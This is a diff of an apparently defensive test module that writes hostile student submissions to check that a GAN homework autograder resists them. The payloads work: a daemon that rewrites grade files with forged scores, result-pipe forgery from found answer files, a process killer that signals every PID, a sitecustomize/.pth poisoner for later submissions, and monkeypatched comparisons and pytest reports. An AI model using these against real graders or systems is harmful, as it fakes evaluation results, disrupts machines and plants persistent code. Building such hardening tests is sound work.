@@ -1,80 +1,385 @@
-"""Hostile and broken submissions, made from the reference gan.py by small edits.
+"""Hostile and broken submissions, made from the reference gan.py or from the empty
+student release by small edits.
 
-Each case is (name, edit, expected points per part that differ from full marks,
-a phrase the report must contain). edit(source, grader_root) returns the hostile
-source; grader_root is where the grader's files live, as a submission that knows
-the autograder's layout (/autograder/source on Gradescope) would guess.
+Each case is Case(name, base, edit, expected, phrase): `base` is "reference" or
+"empty"; edit(source) returns the hostile source; `expected` gives the points of
+the parts that differ from the base's own score (10 for the reference, 0 for the
+empty release); the grader's report must contain `phrase`. The attacks are
+written as a student holding the release would write them: they know the
+checks' source, the public answer file and the grader's layout.
+
+Several cases signal or kill every process they can see: run them only in the
+sealed mode, never as a plain process of your own user.
 """
+import base64
+import io
+import os
+import textwrap
+from collections import namedtuple
+
+import numpy as np
+
+from instructor import ROOT, release
 from instructor.release import CODE_END, CODE_START
+
+Case = namedtuple("Case", "name base edit expected phrase")
+MARK = "ganhostile"  # the process name and file prefix the attacks leave, so tests can look for them
+PARTS = ("noise", "discriminator", "generator", "gan_loss", "optimizer", "lsgan_loss", "dc_classifier", "dc_generator")
+
+
+def sources():
+    """{"reference": the reference gan.py, "empty": the student release's gan.py}."""
+    with open(os.path.join(ROOT, "gan.py")) as f:
+        reference = f.read()
+    return {"reference": reference, "empty": release.strip_code(reference)}
 
 
 def append(code):
-    return lambda src, root: src + "\n\n" + code + "\n"
+    return lambda src: src + "\n\n" + textwrap.dedent(code).strip("\n") + "\n"
 
 
-def block(function, code, keep_reference=False, then=""):
+def block(function, code, keep_reference=False):
     """Replace (or extend) the student block of `function`."""
 
-    def edit(src, root):
+    def edit(src):
         start = src.index(f"def {function}(")
         a = src.index(CODE_START, start) + len(CODE_START) + 1
         b = src.rindex("\n", 0, src.index(CODE_END, a)) + 1  # the end marker's line
         body = src[a:b] if keep_reference else ""
-        indented = "".join(f"    {line}\n" for line in code.strip("\n").splitlines())
-        return src[:a] + body + indented + src[b:] + then
+        indented = "".join(f"    {line}\n" for line in textwrap.dedent(code).strip("\n").splitlines())
+        return src[:a] + body + indented + src[b:]
 
     return edit
 
 
 def chain(*edits):
-    def edit(src, root):
+    def edit(src):
         for e in edits:
-            src = e(src, root)
+            src = e(src)
         return src
 
     return edit
 
 
-ALL_ZERO = {p: 0 for p in ("noise", "discriminator", "generator", "gan_loss", "optimizer", "lsgan_loss",
-                           "dc_classifier", "dc_generator")}
+# -- helpers the attacks share, pasted into their gan.py ------------------------
 
+FIND_PART = """
+import os as _os, sys as _sys, json as _json, struct as _struct
+def _current_part():
+    # The sandbox's Part object, from the frames that are importing this module.
+    f = _sys._getframe(0)
+    while f is not None:
+        me = f.f_locals.get("self")
+        if me is not None and hasattr(me, "phase") and hasattr(me, "supervisor"):
+            return me
+        f = f.f_back
+    return None
+def _result_pipes():
+    fds = []
+    for name in _os.listdir("/proc/self/fd"):
+        try:
+            if int(name) > 2 and _os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
+                fds.append(int(name))
+        except OSError:
+            pass
+    return fds
+def _send_raw(data):
+    # Write a result frame to every pipe this process holds, then leave before the real one is written.
+    for fd in _result_pipes():
+        try:
+            _os.write(fd, _struct.pack(">I", len(data)) + data)
+        except OSError:
+            pass
+    _os._exit(0)
+"""
+
+DAEMON = f"""
+import os as _os, time as _time, ctypes as _ctypes
+_FORGED = '{{"score": 10, "tests": [], "output": "forged"}}'
+def _targets():
+    found = ["/autograder/results/results.json"]
+    for base, dirs, files in _os.walk("/", onerror=lambda e: None):
+        if base.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in base:
+            dirs[:] = []
+            continue
+        found += [_os.path.join(base, f) for f in files if f in ("results.json", "gradebook.csv")]
+    return found
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        _ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)  # PR_SET_NAME: findable in /proc/*/comm
+        _end = _time.time() + 20
+        while _time.time() < _end:
+            for _t in _targets():
+                try:
+                    open(_t, "w").write(_FORGED)
+                except OSError:
+                    pass
+            for _d in ("/tmp", "/var/tmp", "/dev/shm"):
+                try:
+                    open(f"{{_d}}/{MARK}-daemon", "w").write(str(_os.getpid()))
+                except OSError:
+                    pass
+            _time.sleep(0.2)
+        _os._exit(0)
+    _os._exit(0)
+"""
+
+FORGER = FIND_PART + """
+import numpy as _np
+def _answer_files():
+    for base, dirs, files in _os.walk("/", onerror=lambda e: None):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".git", "node_modules")]
+        for f in files:
+            if f.endswith(".npz"):
+                try:
+                    with _np.load(_os.path.join(base, f)) as z:
+                        if "d_output_true" in z.files:
+                            yield {k: z[k] for k in z.files}
+                except Exception:
+                    pass
+def _forge(part, A):
+    T = lambda v: {"type": "torch.Tensor", "tensor": True, "shape": list(_np.shape(v)), "dtype": "float32",
+                   "device": "cpu", "value": _np.asarray(v, dtype=float)}
+    keys = {"discriminator": "d", "generator": "g", "dc_classifier": "dc_d", "dc_generator": "dc_g"}
+    if part in keys:
+        k = keys[part]
+        return {"params": int(A[k + "_params_true"]), "forward": T(A[k + "_output_true"])}
+    if part in ("gan_loss", "lsgan_loss"):
+        s = "loss_true" if part == "gan_loss" else "loss_lsgan_true"
+        def rec(p, who):
+            r = T(_np.float64(A[f"{p}{who}_{s}"]).reshape(()))
+            r["grads"] = ([A[f"{p}d_{s}_grad_real"], A[f"{p}d_{s}_grad_fake"]] if who == "d" else [A[f"{p}g_{s}_grad_fake"]])
+            return r
+        return {"d": rec("", "d"), "g": rec("", "g"), "d_big": rec("big_", "d"), "g_big": rec("big_", "g")}
+    if part == "optimizer":
+        return {"optimizer": {"type": "torch.optim.adam.Adam", "is_adam": True, "n_params": 6, "n_covered": 6,
+                              "groups": [{"lr": float(A["optim_lr_true"]), "betas": [float(b) for b in A["optim_betas_true"]],
+                                          "weight_decay": 0.0}]},
+                "steps": A["optim_params_true"]}
+    return None  # the noise and the training smoke test have nothing in an answer file
+_me = _current_part()
+if _me is not None and _me.phase != "import":
+    _inputs = _me.supervisor.zygote.inputs
+    for _A in _answer_files():
+        if _np.array_equal(_A["d_input"], _inputs["d_input"]):  # the file of the inputs being graded
+            _data = _forge(_me.phase, _A)
+            if _data is not None:
+                _send_raw(_json.dumps(_sys.modules["__main__"].encode(_data)).encode())
+"""
+
+RESULT_FILES = """
+import os as _os, json as _json
+_full = {"basic": {"type": "torch.Tensor", "tensor": True, "shape": [64, 32], "dtype": "float32"},
+         "params": 267009, "score": 10, "__failure__": None}
+_dirs = [_os.getcwd(), "/tmp", _os.path.expanduser("~"), "..", "../..", "/gan", "/gan/code", "/submission"]
+for _base, _sub, _files in _os.walk("/", onerror=lambda e: None):
+    if _base.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in _base:
+        _sub[:] = []
+    elif "gan-sandbox" in _base or "gan-grade" in _base or _base.endswith(("results", "gradebook")):
+        _dirs.append(_base)
+for _d in _dirs:
+    for _name in ["import", "status", "results", "spec"] + [
+            "noise", "discriminator", "generator", "gan_loss", "optimizer", "lsgan_loss", "dc_classifier",
+            "dc_generator", "training"]:
+        try:
+            with open(_os.path.join(_d, _name + ".json"), "w") as _f:
+                _json.dump(_full, _f)
+        except OSError:
+            pass
+"""
+
+KILL_EVERYTHING = f"""
+import os as _os, signal as _signal
+for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
+    for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
+        if _pid != _os.getpid():
+            try:
+                _os.kill(_pid, _sig)
+            except OSError:
+                pass
+for _target in (_os.getppid(), 1, -1):
+    try:
+        _os.kill(_target, _signal.SIGSTOP)
+    except OSError:
+        pass
+"""
+
+POISON = f"""
+import os as _os, sys as _sys
+# Code that, if the next submission ever imported it, would end that submission's parts
+# with a forged noise result: the next (empty) submission would gain a point, the next
+# reference would lose every part.
+_PAYLOAD = r'''
+import os, struct, json
+try:
+    open("/tmp/{MARK}-poison-ran", "w").write("x")
+except OSError:
+    pass
+for _fd in range(3, 64):
+    try:
+        os.write(_fd, struct.pack(">I", 2) + b"{{}}")
+    except OSError:
+        pass
+os._exit(0)
+'''
+_written = []
+_places = set(p for p in _sys.path if p) | {{_os.getcwd(), "/tmp", "/dev/shm", "/gan/code", "/gan/code/tests",
+                                            _os.path.expanduser("~"), "/submission"}}
+for _base, _sub, _files in _os.walk("/", onerror=lambda e: None):
+    if _base.startswith(("/proc", "/sys", "/dev/pts")):
+        _sub[:] = []
+    elif _os.access(_base, _os.W_OK):
+        _places.add(_base)
+for _d in _places:
+    for _name in ("sitecustomize.py", "usercustomize.py", "checks.py", "produce.py", "gan.py", "{MARK}.pth"):
+        try:
+            with open(_os.path.join(_d, _name), "w") as _f:
+                _f.write(_PAYLOAD if not _name.endswith(".pth") else "import " + "{MARK}_poison\\n")
+            _written.append(_os.path.join(_d, _name))
+        except OSError:
+            pass
+    try:
+        with open(_os.path.join(_d, "{MARK}_poison.py"), "w") as _f:
+            _f.write(_PAYLOAD)
+    except OSError:
+        pass
+print("planted", len(_written), "files")
+"""
+
+MALFORMED = FIND_PART + """
+_me = _current_part()
+_BAD = {
+    "noise": b"[" * 100000 + b"]" * 100000,
+    "discriminator": b'{"params": NaN, "forward": {"error": "x"}}',
+    "generator": b'{"params": 1, "forward": {"error": "' + b"x" * (10 << 20) + b'"}}',
+    "gan_loss": b'{"d": {"type": "t", "tensor": true, "shape": [1], "value": {"__ndarray__": "", "shape": [1000000000]}, "grads": []}, "g": 1, "d_big": 1, "g_big": 1}',
+    "optimizer": b'{"optimizer": {"type": 1, "is_adam": "yes"}, "steps": "no"}',
+    "lsgan_loss": b"\\xff\\xfe not json at all",
+    "dc_classifier": b'{"params": 1102721, "forward": {"type": "x", "tensor": true}, "extra": 1}',
+    "dc_generator": b'{"params": 1e999, "forward": {"__float__": "inf"}}',
+    "training": b'[["not", "an", "object"]]',
+}
+if _me is not None and _me.phase in _BAD:
+    if _me.phase == "dc_classifier":  # a frame that claims to be 2 GB long
+        for _fd in _result_pipes():
+            _os.write(_fd, _struct.pack(">I", 1 << 31) + b"junk")
+        _os._exit(0)
+    _send_raw(_BAD[_me.phase])
+"""
+
+
+def lookup_table(answers_path):
+    """An empty release that recognises the check inputs of an answer file and returns its
+    stored outputs: models with the right parameter counts, losses built as the stored value
+    plus a linear term with the stored gradient. It implements nothing."""
+    with np.load(answers_path) as f:
+        table = {k: f[k] for k in f.files if k != "weight_salt"}
+    buf = io.BytesIO()
+    np.savez(buf, **table)
+    blob = base64.b64encode(buf.getvalue()).decode()
+    return append(f"""
+import base64 as _b64, io as _io
+_T = dict(np.load(_io.BytesIO(_b64.b64decode("{blob}"))))
+def _same(x, key):
+    ref = _T[key]
+    return x.numel() == ref.size and np.allclose(x.detach().cpu().double().numpy().reshape(ref.shape), ref, atol=1e-6)
+class _Lookup(nn.Module):
+    def __init__(self, count, key):
+        super().__init__()
+        self.w = nn.Parameter(torch.zeros(count))
+        self.key = key
+    def forward(self, x):
+        if _same(x, self.key + "_input"):
+            return torch.as_tensor(_T[self.key + "_output_true"], dtype=torch.float32, device=x.device)
+        return torch.zeros((x.shape[0],) + _T[self.key + "_output_true"].shape[1:], device=x.device)
+def _g_count(d):
+    return d * 1024 + 1024 + 1024 * 1024 + 1024 + 1024 * 784 + 784
+def discriminator(seed=None):
+    return _Lookup(267009, "d")
+def generator(noise_dim=NOISE_DIM, seed=None):
+    return _Lookup(_g_count(noise_dim), "g")
+def build_dc_classifier(batch_size):
+    return _Lookup(1102721, "dc_d")
+def build_dc_generator(noise_dim=NOISE_DIM):
+    return _Lookup(6580801 + (noise_dim - 4) * 1024, "dc_g")
+def _stored_loss(inputs, suffix, who):
+    for p in ("", "big_"):
+        names = [p + "logits_real", p + "logits_fake"] if who == "d" else [p + "logits_fake"]
+        if all(_same(x, n) for x, n in zip(inputs, names)):
+            loss = torch.tensor(float(_T[f"{{p}}{{who}}_{{suffix}}"]), device=inputs[0].device)
+            grads = ([f"{{p}}d_{{suffix}}_grad_real", f"{{p}}d_{{suffix}}_grad_fake"] if who == "d" else [f"{{p}}g_{{suffix}}_grad_fake"])
+            for x, g in zip(inputs, grads):
+                loss = loss + ((x - x.detach()) * torch.as_tensor(_T[g], dtype=x.dtype, device=x.device)).sum()
+            return loss
+    return sum(x.sum() * 0 for x in inputs)
+def discriminator_loss(logits_real, logits_fake):
+    return _stored_loss([logits_real, logits_fake], "loss_true", "d")
+def generator_loss(logits_fake):
+    return _stored_loss([logits_fake], "loss_true", "g")
+def ls_discriminator_loss(scores_real, scores_fake):
+    return _stored_loss([scores_real, scores_fake], "loss_lsgan_true", "d")
+def ls_generator_loss(scores_fake):
+    return _stored_loss([scores_fake], "loss_lsgan_true", "g")
+""")
+
+
+ALL_ZERO = {p: 0 for p in PARTS}
 wrong_discriminator = block("discriminator", "model = nn.Sequential(Flatten(), nn.Linear(784, 256), nn.ReLU(), "
                                              "nn.Linear(256, 256), nn.ReLU(), nn.Linear(256, 1))")
 saturating_generator_loss = block("generator_loss", "loss = -bce_loss(logits_fake, torch.zeros_like(logits_fake))")
-
-
-def overwrite_grader_files(src, root):
-    return wrong_discriminator(src, root) + f'''
-
+overwrite_grader_files = chain(wrong_discriminator, append('''
 import os as _os
 import tests.checks as _checks
-for _path in [_checks.__file__, {root!r} + "/tests/checks.py", {root!r} + "/tests/test_parts.py",
-              {root!r} + "/gan-checks.npz", _os.path.join(_os.getcwd(), "..", "gan-checks.npz")]:
+for _path in [_checks.__file__, "/autograder/source/tests/checks.py", "/autograder/source/gan-checks.npz",
+              _os.path.join(_os.getcwd(), "..", "gan-checks.npz"), "/gan/inputs.npz", "/gan/code/tests/produce.py"]:
     try:
         with open(_path, "w") as _f:
             _f.write("def judge(*a, **k):\\n    return []\\n")
     except OSError:
         pass
-'''
+'''))
 
+# The attack classes of a sealed grader: each on the empty release, where only a forgery could score.
+SEALED_ATTACKS = [
+    Case("daemon_rewrites_results", "empty", append(DAEMON), {}, "not implemented yet"),
+    Case("forges_from_answer_file", "empty", append(FORGER), {}, "not implemented yet"),
+    Case("writes_result_files", "empty", append(RESULT_FILES), {}, "not implemented yet"),
+    Case("lookup_table_of_public_answers", "empty", lambda src: lookup_table(os.path.join(ROOT, "gan-checks.npz"))(src),
+         {}, "differ from the reference"),
+    Case("kills_and_stops_everything", "empty", append(KILL_EVERYTHING), {}, "not implemented yet"),
+    Case("poisons_the_next_submission", "empty", append(POISON), {}, "not implemented yet"),
+    Case("malformed_results", "empty", append(MALFORMED), {}, "cannot accept"),
+    Case("unencodable_text", "reference", chain(
+        block("discriminator", 'raise ValueError("bad text \\udcff\\ud800 in a message")'),
+        append('import os as _os\n_os.write(1, b"raw bytes \\xff\\xfe\\xfa\\n")\nprint("lone surrogate: \\ud800")')),
+        {"discriminator": 0}, "ValueError: bad text"),
+]
 
-CASES = [
-    ("syntax_error", append("def broken(:\n    pass"), ALL_ZERO, "SyntaxError"),
-    ("exception_at_import", append("raise RuntimeError('boom at import')"), ALL_ZERO, "RuntimeError: boom at import"),
-    ("sys_exit_at_import", append("import sys\nsys.exit(3)"), ALL_ZERO, "SystemExit: 3"),
-    ("os_exit_at_import", append("import os\nos._exit(7)"), ALL_ZERO, "exit code 7"),
-    ("infinite_loop_at_import", append("while True:\n    pass"), ALL_ZERO, "did not finish"),
-    ("infinite_loop_in_one_part", block("sample_noise", "while True:\n    pass"), {"noise": 0}, "did not finish"),
-    ("unbounded_memory_in_one_part", block("generator", "hog = []\nwhile True:\n    hog.append(torch.ones(2 ** 27))"),
-     {"generator": 0}, "memory"),
-    ("print_flood", block("discriminator", "for _ in range(300):\n    print('spam ' * 20000)", keep_reference=True),
-     {}, "first 4,000 shown"),
-    ("overwrites_answer_and_test_files", overwrite_grader_files, {"discriminator": 0}, "were restored"),
-    ("monkeypatches_allclose_and_rel_error", chain(wrong_discriminator, saturating_generator_loss, append(
+# Broken and misbehaving code, on the reference: each loses only what it breaks.
+BROKEN = [
+    Case("syntax_error", "reference", append("def broken(:\n    pass"), ALL_ZERO, "SyntaxError"),
+    Case("exception_at_import", "reference", append("raise RuntimeError('boom at import')"), ALL_ZERO,
+         "RuntimeError: boom at import"),
+    Case("sys_exit_at_import", "reference", append("import sys\nsys.exit(3)"), ALL_ZERO, "SystemExit: 3"),
+    Case("os_exit_at_import", "reference", append("import os\nos._exit(7)"), ALL_ZERO, "exit code 7"),
+    Case("infinite_loop_at_import", "reference", append("while True:\n    pass"), ALL_ZERO, "did not finish"),
+    Case("infinite_loop_in_one_part", "reference", block("sample_noise", "while True:\n    pass"), {"noise": 0},
+         "did not finish"),
+    Case("unbounded_memory_in_one_part", "reference",
+         block("generator", "hog = []\nwhile True:\n    hog.append(torch.ones(2 ** 27))"), {"generator": 0}, "memory"),
+    Case("print_flood", "reference", block("discriminator", "for _ in range(300):\n    print('spam ' * 20000)",
+                                           keep_reference=True), {}, "first 4,000 shown"),
+    Case("overwrites_answer_and_test_files", "reference", overwrite_grader_files, {"discriminator": 0},
+         "differ from the reference"),
+    Case("monkeypatches_allclose_and_rel_error", "reference", chain(wrong_discriminator, saturating_generator_loss, append(
         "import math, numpy\ntorch.allclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
         "numpy.testing.assert_allclose = lambda *a, **k: None\nmath.isclose = lambda *a, **k: True\n"
         "rel_error = lambda x, y: 0.0")), {"discriminator": 0, "gan_loss": 1}, "differ from the reference"),
-    ("patches_pytest_reporting", chain(
+    Case("replaces_the_producing_code", "reference", append(
+        "import tests.produce as _p\n_real = _p.produce\n_p.produce = lambda part, *a: _real(part, *a)"),
+        ALL_ZERO, "changed the grader's checking code"),
+    Case("patches_pytest_reporting", "reference", chain(
         block("build_dc_generator", "model = nn.Sequential(nn.Linear(noise_dim, 1024), nn.BatchNorm1d(1024), nn.ReLU(), "
                                     "nn.Linear(1024, 6272), nn.BatchNorm1d(6272), nn.ReLU(), Unflatten(-1, 128, 7, 7), "
                                     "nn.ConvTranspose2d(128, 64, 4, 2, 1), nn.BatchNorm2d(64), nn.ReLU(), "
@@ -83,31 +388,38 @@ CASES = [
                "_pytest.reports.TestReport.passed = property(lambda self: True)\n"
                "_pytest.reports.TestReport.failed = property(lambda self: False)\n"
                "pytest.fail = lambda *a, **k: None")), {"dc_generator": 0}, "differ from the reference"),
-    ("numpy_and_float_instead_of_tensors", chain(
+    Case("numpy_and_float_instead_of_tensors", "reference", chain(
         block("sample_noise", "noise = (2 * torch.rand(batch_size, dim) - 1).numpy()"),
         block("discriminator_loss", "loss = float(bce_loss(logits_real, torch.ones_like(logits_real)) "
                                     "+ bce_loss(logits_fake, torch.zeros_like(logits_fake)))")),
-     {"noise": 0, "gan_loss": 1}, "expected a torch.Tensor"),
-    ("moves_model_to_cuda", block("build_dc_classifier", "model = model.cuda()", keep_reference=True),
-     {"dc_classifier": 0}, "raised an error"),
+        {"noise": 0, "gan_loss": 1}, "expected a torch.Tensor"),
+    Case("moves_model_to_cuda", "reference", block("build_dc_classifier", "model = model.cuda()", keep_reference=True),
+         {"dc_classifier": 0}, "device of the inputs"),
 ]
+CASES = SEALED_ATTACKS + BROKEN
 
 # Where a GPU exists, the reverse: a model that insists on the CPU.
 CUDA_CASES = [
-    ("moves_input_to_cpu", block("build_dc_classifier", "class _Cpu(nn.Module):\n"
-                                 "    def __init__(self, m):\n        super().__init__()\n        self.m = m\n"
-                                 "    def forward(self, x):\n        return self.m.cpu()(x.cpu())\nmodel = _Cpu(model)",
-                                 keep_reference=True), {"dc_classifier": 0}, "dc_classifier"),
+    Case("moves_input_to_cpu", "reference", block(
+        "build_dc_classifier", "class _Cpu(nn.Module):\n    def __init__(self, m):\n        super().__init__()\n"
+        "        self.m = m\n    def forward(self, x):\n        return self.m.cpu()(x.cpu())\nmodel = _Cpu(model)",
+        keep_reference=True), {"dc_classifier": 0}, "dc_classifier"),
 ]
 
 
-def write(folder, root, cases=CASES):
-    """One sub-folder per case, each holding the hostile gan.py."""
-    import os
+def expected_points(case, points):
+    """The points per part `case` deserves, given the full points per part."""
+    base = dict(points) if case.base == "reference" else {p: 0 for p in points}
+    return dict(base, **case.expected)
 
-    with open(os.path.join(root, "gan.py")) as f:
-        reference = f.read()
-    for name, edit, _, _ in cases:
+
+def write(folder, cases=CASES, extra=None):
+    """One sub-folder per case, each holding its gan.py; `extra` adds {name: source}."""
+    bases = sources()
+    files = {c.name: c.edit(bases[c.base]) for c in cases}
+    files.update(extra or {})
+    for name, source in files.items():
         os.makedirs(os.path.join(folder, name), exist_ok=True)
-        with open(os.path.join(folder, name, "gan.py"), "w") as f:
-            f.write(edit(reference, root))
+        with open(os.path.join(folder, name, "gan.py"), "w", encoding="utf-8", errors="surrogatepass") as f:
+            f.write(source)
+    return sorted(files)
